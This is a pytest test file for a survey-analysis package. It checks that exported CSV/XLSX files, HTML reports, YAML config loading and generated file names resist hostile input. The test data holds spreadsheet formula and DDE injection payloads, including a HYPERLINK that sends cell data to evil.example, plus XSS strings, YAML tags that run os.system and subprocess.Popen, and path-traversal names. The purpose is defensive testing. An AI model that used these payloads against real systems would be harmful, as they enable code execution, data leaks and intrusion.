"""Hostile text: formulas stay text, HTML is escaped, YAML is loaded safely, file names stay put."""
from __future__ import annotations

import ast
import csv
import re
from pathlib import Path

import pandas as pd
import pytest

import survey_analysis
from survey_analysis._atomic import safe_filename
from survey_analysis.errors import ConfigError
from survey_analysis.outputs import neutralise_formula, write_csv, write_xlsx

# what a respondent can type into a comment box
FORMULAS = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点这里\")",
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C notepad'!'A1'",
]
NUMBERS = ["-5", "+3", "-0.25", "1e3", "85%"]  # plain numbers are not formulas: left alone


def _frame():
    n = max(len(FORMULAS), len(NUMBERS))
    return pd.DataFrame({
        "comment": (FORMULAS + [None] * n)[:n],
        "number_text": (NUMBERS + ["7"] * n)[:n],
        "=header": ["x"] * n,
    })


def test_csv_formulas_written_as_text(tmp_path):
    df = _frame()
    before = df.copy()
    p = write_csv(df, tmp_path / "t.csv")
    pd.testing.assert_frame_equal(df, before)  # input untouched
    with open(p, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert len(rows) == 1 + len(FORMULAS)  # a lone "\r" in a cell does not start a new row
    assert rows[0] == ["comment", "number_text", "'=header"]
    for i, text in enumerate(FORMULAS, start=1):
        assert rows[i][0] == "'" + text  # apostrophe: Excel shows the text, never evaluates it
    assert [r[1] for r in rows[1:1 + len(NUMBERS)]] == NUMBERS


def test_xlsx_formulas_are_string_cells(tmp_path):
    import openpyxl

    p = write_xlsx({"评论": _frame()}, tmp_path / "t.xlsx", notes={"评论": "=NOTE()"})
    ws = openpyxl.load_workbook(p)["评论"]
    types = {c.data_type for row in ws.iter_rows() for c in row if c.value is not None}
    assert "f" not in types and types <= {"s", "n"}
    # (openpyxl shows a carriage return as the OOXML escape _x000D_)
    got = [ws.cell(row=i, column=1).value.replace("_x000D_", "\r") for i in range(2, 2 + len(FORMULAS))]
    assert got == FORMULAS  # exact text kept (no apostrophe needed in a typed string cell)
    assert ws.cell(row=1, column=3).value == "=header"


def _hostile_report():
    from survey_analysis.report.model import BulletList, KeyFigures, Paragraph, Quote, Report, Section, Table

    evil = "<script>alert('x')</script>"
    img = "<img src=x onerror=alert(1)>"
    df = pd.DataFrame({"专业" + img: ["计算机" + evil, "=1+1", "@SUM(A1)", "a & b \" ' <b>"],
                       "n": [12, 30, 8, 7], "share": [0.5, 0.25, 0.1, 0.9]})
    return Report(
        title="报告" + evil,
        subtitle=img,
        meta={"school": "学校" + evil, "sources": ["文件" + img]},
        sections=[Section("章节" + evil, [
            Paragraph("段落" + evil),
            BulletList(["要点" + img, "=2+2"]),
            KeyFigures([("指标" + evil, "=3+3", img)]),
            Table(df, "表" + evil, note="注" + img, formats={"share": "pct"}),
            Quote("+1+cmd|' /C calc'!A0 " + evil, source="来源" + img),
        ])],
    ), evil, img


def test_html_escapes_every_piece_of_data(tmp_path):
    from survey_analysis.report import render

    rep, evil, img = _hostile_report()
    paths = render(rep, tmp_path, formats="html")
    html = paths["html"].read_text(encoding="utf-8")
    assert "<script>alert" not in html and "<img src=x" not in html and "<b>" not in html
    assert html.count("&lt;script&gt;alert(&#x27;x&#x27;)&lt;/script&gt;") >= 6  # title, meta, headings, …
    assert "&lt;img src=x onerror=alert(1)&gt;" in html
    assert "a &amp; b &quot; &#x27; &lt;b&gt;" in html
    # the only scripts are none at all: the report needs no JavaScript
    assert "<script" not in html.lower()


def test_report_xlsx_has_no_formula_cells(tmp_path):
    import openpyxl

    from survey_analysis.report import render

    rep, _, _ = _hostile_report()
    paths = render(rep, tmp_path, formats="xlsx")
    wb = openpyxl.load_workbook(paths["xlsx"])
    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]
    assert cells and all(c.data_type != "f" for c in cells)
    values = {str(c.value) for c in cells}
    assert "=1+1" in values or "'=1+1" in values  # the text itself is shown


def test_neutralise_formula_examples():
    assert neutralise_formula("=A1") == "'=A1"
    assert neutralise_formula("-5") == "-5" and neutralise_formula("-") == "'-"
    assert neutralise_formula(3) == 3 and neutralise_formula(None) is None


# -- YAML ------------------------------------------------------------------------------
_PKG = Path(survey_analysis.__file__).resolve().parent


def test_yaml_only_safe_loaders_in_the_package():
    unsafe = []
    for py in _PKG.rglob("*.py"):
        tree = ast.parse(py.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute):
                name = node.func.attr
                owner = getattr(node.func.value, "id", "")
                if owner == "yaml" and name in {"load", "load_all", "unsafe_load", "unsafe_load_all", "full_load",
                                                "full_load_all"}:
                    loader = [k for k in node.keywords if k.arg == "Loader"]
                    ok = loader and getattr(loader[0].value, "attr", "") in {"SafeLoader", "CSafeLoader"}
                    if not ok:
                        unsafe.append(f"{py.relative_to(_PKG)}:{node.lineno} yaml.{name}")
    assert unsafe == []
    text = "\n".join(p.read_text(encoding="utf-8") for p in _PKG.rglob("*.py"))
    assert not re.search(r"yaml\.(Unsafe|Full)?Loader\b(?!\w)", text.replace("SafeLoader", ""))


_PAYLOAD_MARK = "survey_analysis_yaml_pwned"


@pytest.mark.parametrize("payload", [
    "school: !!python/object/apply:os.system ['touch {mark}']\n",
    "school: !!python/object/new:subprocess.Popen [['touch', '{mark}']]\n",
])
def test_config_yaml_tags_are_refused_not_run(tmp_path, payload):
    from survey_analysis.pipeline import load_config

    mark = tmp_path / _PAYLOAD_MARK
    cfg = tmp_path / "config.yaml"
    cfg.write_text(payload.format(mark=mark), encoding="utf-8")
    with pytest.raises(ConfigError, match="YAML"):
        load_config(cfg)
    assert not mark.exists()


def test_spec_yaml_tags_are_refused_not_run(tmp_path):
    from survey_analysis.io import read_survey
    from survey_analysis.spec import load_spec

    data = tmp_path / "d.csv"
    data.write_text("序号,所在专业\n1,软件工程\n2,机械工程\n", encoding="utf-8")
    mark = tmp_path / _PAYLOAD_MARK
    spec = tmp_path / "spec.yaml"
    spec.write_text(f"survey: employer\nfields:\n  major: !!python/object/apply:os.system ['touch {mark}']\n",
                    encoding="utf-8")
    with pytest.raises(ConfigError):
        load_spec(spec, read_survey(data))
    assert not mark.exists()


# -- file names made from major / college names ------------------------------------------
NAMES = ["../../x", "a/b", "a\\b", "a\0b", "..", ".", "", "  ", "/etc/passwd", "C:\\Windows\\x", "计算机/软件..工程",
         "专业" * 100, "..\\..\\y", "a\nb", "~", "con"]


@pytest.mark.parametrize("name", NAMES)
def test_safe_filename_stays_in_folder(tmp_path, name):
    s = safe_filename(name)
    assert s and s not in (".", "..") and len(s) <= 80
    assert not any(ch in s for ch in "/\\\0\n")
    p = (tmp_path / s).resolve()
    assert p.parent == tmp_path.resolve()


@pytest.mark.parametrize("basename", ["../../逃逸", "a/b", "x\0y", ".."])
def test_render_basename_cannot_escape(tmp_path, basename):
    from survey_analysis.report import Paragraph, Report, Section, render

    out = tmp_path / "out"
    paths = render(Report("r", sections=[Section("s", [Paragraph("p")])]), out, formats="html", basename=basename)
    assert paths["html"].resolve().parent == out.resolve()
    assert sorted(p.relative_to(tmp_path).as_posix() for p in tmp_path.rglob("*") if p.is_file()) == \
        [f"out/{paths['html'].name}"]


def test_control_characters_removed_and_cleaned_csv_reads_back(tmp_path):
    """A NUL or an escape sequence typed into a comment does not survive cleaning, so the
    cleaned CSV is a text file the reader accepts again (it refuses files with NUL bytes)."""
    import xlwt

    from survey_analysis import clean, infer_spec, read_survey

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("S")
    rows = [["序号", "您对本校毕业生的总体满意度", "您对我校人才培养有何意见和建议"],
            [1, "很满意", "希望\x00加强\x1b[31m实践\x07"], [2, "满意", "多\r\n实习"]]
    for i, r in enumerate(rows):
        for j, v in enumerate(r):
            ws.write(i, j, v)
    wb.save(str(tmp_path / "ctrl.xls"))
    raw = read_survey(tmp_path / "ctrl.xls")
    assert "\x00" in raw.data.iloc[0, 2]  # the reader keeps what the file holds
    res = clean(raw, infer_spec(raw, kind="employer"), key="k", min_seconds=None)
    assert res.data["comment"].tolist() == ["希望加强[31m实践", "多\r\n实习"]  # newlines are not control junk
    p = write_csv(res.data, tmp_path / "cleaned.csv")
    again = read_survey(p, platform="generic")
    assert again.data["comment"].iloc[0] == "希望加强[31m实践"
